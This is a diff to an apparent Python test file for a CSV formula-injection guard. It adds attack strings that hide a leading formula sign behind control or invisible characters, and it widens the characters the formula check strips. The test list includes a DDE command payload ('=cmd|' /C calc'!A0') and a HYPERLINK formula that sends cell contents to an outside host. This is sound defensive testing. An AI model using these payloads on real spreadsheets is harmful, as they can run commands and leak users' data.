@@ -18,6 +18,7 @@ ATTACKS = (
     *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", " \t＋1", "'=1", '"=1', "\ufeff=1"),
     *("a;=1", "a\t=1", "a\n=1", "a\r\n-1", "a; +1", 'a;"=1"', "a|@x", "=cmd|' /C calc'!A0", "\tx", "\u00a0=1"),
     '=HYPERLINK("http://example.org?x="&A1,"see")',
+    *("\x00=1", "a;\x1f=1", "\u2009+1", "\u202a-1", "\u2066@x", "\u00ad=1"),
 )
 texts = st.text(st.sampled_from([*SIGNS, *";,\t\r\n|'\" \ufeffaé0", "\u200e", "\u3000"]), max_size=12)
 
@@ -33,7 +34,7 @@ def cells(data: bytes, separator: str) -> Iterator[str]:
 
 def begins_formula(cell: str) -> bool:
     """As LibreOffice and Excel judge: the first sign that is no white space; quotation marks are gone."""
-    bare = cell.strip(' "\t\r\n\v\f\u00a0\u3000\u200b\u200e\u200f\u2060\ufeff')
+    bare = cell.strip(' "\t\r\n\v\f\u00a0\u3000\u200b\u200e\u200f\u2060\ufeff\x00\x1f\u2009\u202a\u2066\u00ad')
     return bare[:1] in tuple(SIGNS)
 
 
